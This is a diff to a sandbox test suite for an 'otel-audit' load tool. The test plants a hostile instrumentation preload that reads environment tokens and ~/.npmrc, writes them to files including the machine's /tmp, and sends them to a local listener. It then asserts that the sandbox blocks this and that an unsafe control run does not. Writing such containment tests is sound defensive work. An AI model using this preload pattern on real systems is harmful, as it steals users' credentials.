@@ -1,19 +1,25 @@
 // `otel-audit load` runs the app — and so the instrumentation under audit — in the sandbox (issue 15):
 // a hostile instrumentation preload that reads the tokens in its environment and the user's ~/.npmrc,
-// writes what it found outside its temp folder and sends it to a listener on the host's 127.0.0.1. In
-// the sandbox none of it arrives; with --unsafe-run (the control) all of it does, which shows that the
-// hostile code ran and that this test can fail. Structure only, never timings: short runs.
+// writes what it found outside its temp folder (beside the app, and in the machine's /tmp) and sends it
+// to a listener on the host's 127.0.0.1. In the sandbox none of it arrives — with the CPU profile too,
+// where Node 20 has no permission model and the file view (a mount namespace) holds the files; with
+// --unsafe-run (the control) all of it does, which shows that the hostile code ran and that this test
+// can fail. Structure only, never timings: short runs.
 import assert from 'node:assert/strict';
-import { readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import os from 'node:os';
 import path from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { parseReport } from '../../src/model/parse-report.js';
 import { inspectorKeepsPermissions } from '../../src/sandbox/node-permissions.js';
 import { osIsolation } from '../../src/sandbox/os-isolation.js';
-import { attackLab, filesUnder, leakedSecrets, type Lab } from '../helpers/attack-lab.js';
+import { SECRETS, attackLab, filesUnder, leakedSecrets, type Lab } from '../helpers/attack-lab.js';
 import { runCli } from '../cli/run-cli.js';
 
 const SHORT = ['--duration', '0.4', '--rounds', '2', '--warmup', '0', '--count-requests', '0', '--no-scan', '--format', 'json', '-q'];
+
+/** A file in the machine's own temp folder: outside the app's temp folder, hidden by the file view. */
+const TMP_FILE = path.join(os.tmpdir(), `otel-audit-hostile-${process.pid}.txt`);
 
 const APP = `'use strict';
 const http = require('node:http');
@@ -32,6 +38,7 @@ try { npmrc = fs.readFileSync(${JSON.stringify(path.join(lab.home, '.npmrc'))}, 
 for (const [name, text] of [['env.txt', env], ['npmrc.txt', npmrc]]) {
   try { fs.writeFileSync(${JSON.stringify(lab.outside)} + '/' + name, text); } catch {}
 }
+try { fs.writeFileSync(${JSON.stringify(TMP_FILE)}, env + ';' + npmrc); } catch {}
 const socket = net.connect(${lab.port}, '127.0.0.1', () => socket.end('env:' + env + ';npmrc:' + npmrc));
 socket.on('error', () => {});
 `;
@@ -42,6 +49,15 @@ const outsideText = (lab: Lab): string =>
     .map((f) => readFileSync(path.join(lab.outside, f), 'utf8'))
     .join('\n');
 
+/** Every file of the lab but those the test planted (~/.npmrc; the preload, which lists the secrets to look for), and the /tmp file. */
+const everywhereText = (lab: Lab): string =>
+  [
+    ...filesUnder(lab.root)
+      .filter((f) => f !== 'home/.npmrc' && f !== 'hostile.js')
+      .map((f) => readFileSync(path.join(lab.root, f), 'utf8')),
+    existsSync(TMP_FILE) ? readFileSync(TMP_FILE, 'utf8') : '',
+  ].join('\n');
+
 describe('sandbox: a hostile instrumentation under load', { skip: osIsolation().network ? false : 'no network namespace here (unshare refused): the app shares the network' }, () => {
   let lab: Lab;
   before(async () => {
@@ -49,7 +65,10 @@ describe('sandbox: a hostile instrumentation under load', { skip: osIsolation().
     writeFileSync(path.join(lab.root, 'app.js'), APP);
     writeFileSync(path.join(lab.root, 'hostile.js'), hostilePreload(lab));
   });
-  after(async () => lab.close());
+  after(async () => {
+    rmSync(TMP_FILE, { force: true });
+    await lab.close();
+  });
 
   const run = (extra: string[]) => runCli(['load', 'app.js', '--url', '/', '--instrument', './hostile.js', ...SHORT, ...extra], { cwd: lab.root, env: lab.env, timeoutMs: 120_000 });
 
@@ -63,28 +82,44 @@ describe('sandbox: a hostile instrumentation under load', { skip: osIsolation().
     assert.deepEqual(leakedSecrets(lab, r.stdout + r.stderr), []);
   });
 
-  it('with the CPU profile: no token in its environment, nothing sent; the permission model as far as the inspector allows, said in the report', async () => {
+  it('with the CPU profile (on by default): nothing written outside, no ~/.npmrc or token anywhere, nothing sent; the profile still attributed', async () => {
     const r = await run([]);
     assert.equal(r.code, 0, r.stderr);
-    const sandbox = parseReport(r.stdout, 'stdout').load!.sandbox!;
+    const load = parseReport(r.stdout, 'stdout').load!;
+    const sandbox = load.sandbox!;
     assert.equal(sandbox.permissionModel, inspectorKeepsPermissions());
-    assert.equal(sandbox.limits.length > 0, !sandbox.permissionModel, 'a permission model left off is a limit the report names');
+    assert.equal(sandbox.files, osIsolation().files);
     assert.deepEqual(lab.connections(), []);
-    // the environment held no token, whatever it could write
-    const envFile = filesUnder(lab.outside).includes('env.txt') ? readFileSync(path.join(lab.outside, 'env.txt'), 'utf8') : '';
-    assert.equal(envFile, '');
-    if (sandbox.permissionModel) assert.deepEqual(filesUnder(lab.outside), []);
     assert.deepEqual(leakedSecrets(lab, r.stdout + r.stderr), []);
+    // every variant's profile was written (to the app's temp folder) and read back into the attribution
+    assert.deepEqual(
+      load.variants.map((v) => [v.id, v.attribution !== null]),
+      load.variants.map((v) => [v.id, true]),
+    );
+    if (!sandbox.permissionModel && !sandbox.files) {
+      // neither file layer (no mount namespace here): the report must say so, and the environment held no token
+      assert.ok(sandbox.limits.length > 0, 'file limits left off are a limit the report names');
+      const envFile = filesUnder(lab.outside).includes('env.txt') ? readFileSync(path.join(lab.outside, 'env.txt'), 'utf8') : '';
+      assert.equal(envFile, '');
+      return;
+    }
+    assert.deepEqual(filesUnder(lab.outside), []);
+    assert.equal(existsSync(TMP_FILE), false, 'nothing written to the machine /tmp');
+    assert.deepEqual(leakedSecrets(lab, everywhereText(lab)), []);
   });
 
   it('the control, --unsafe-run: the same code gets the tokens out, to a file and to the listener', async () => {
     // what the runs before may have left (a file, with the profile on Node 20) must not count here
     for (const f of filesUnder(lab.outside)) rmSync(path.join(lab.outside, f));
+    rmSync(TMP_FILE, { force: true });
     const before = lab.connections().length;
-    const r = await run(['--no-profile', '--unsafe-run']);
+    // the profile on, as in the case above: the same run but for the sandbox
+    const r = await run(['--unsafe-run']);
     assert.equal(r.code, 0, r.stderr);
     assert.equal(parseReport(r.stdout, 'stdout').load!.sandbox!.enabled, false);
     assert.notDeepEqual(leakedSecrets(lab, outsideText(lab)), []);
+    assert.ok(leakedSecrets(lab, everywhereText(lab)).includes(SECRETS.npmrc), 'the ~/.npmrc secret got out');
+    assert.equal(existsSync(TMP_FILE), true, 'it wrote to the machine /tmp');
     assert.notDeepEqual(leakedSecrets(lab, lab.connections().slice(before).join('\n')), []);
   });
 });
